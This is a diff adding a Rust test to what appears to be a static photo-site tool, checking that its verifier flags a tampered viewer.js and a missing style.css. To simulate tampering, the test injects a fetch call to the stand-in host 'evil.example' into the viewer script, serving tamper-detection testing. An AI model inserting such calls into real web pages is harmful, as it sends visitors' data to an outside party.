@@ -260,3 +260,30 @@ fn every_rendition_is_metadata_free_and_upright() {
         );
     }
 }
+
+#[test]
+fn a_changed_or_missing_viewer_file_is_named() {
+    let (_dir, site) = copy_of_sample_site();
+    let script = fs::read_to_string(site.join("viewer.js")).unwrap();
+    fs::write(
+        site.join("viewer.js"),
+        script.replace(
+            "'use strict';",
+            "'use strict'; fetch('https://evil.example/?p=');",
+        ),
+    )
+    .unwrap();
+    fs::remove_file(site.join("style.css")).unwrap();
+    let (code, text) = verify(&site);
+    assert_eq!(code, Some(1), "{text}");
+    assert!(
+        text.contains("the viewer differs from the one lightproof")
+            && text.contains("(file 'viewer.js')"),
+        "{text}"
+    );
+    assert!(
+        text.contains("the viewer is missing (file 'style.css')"),
+        "{text}"
+    );
+    assert!(text.contains("2 problems"), "{text}");
+}
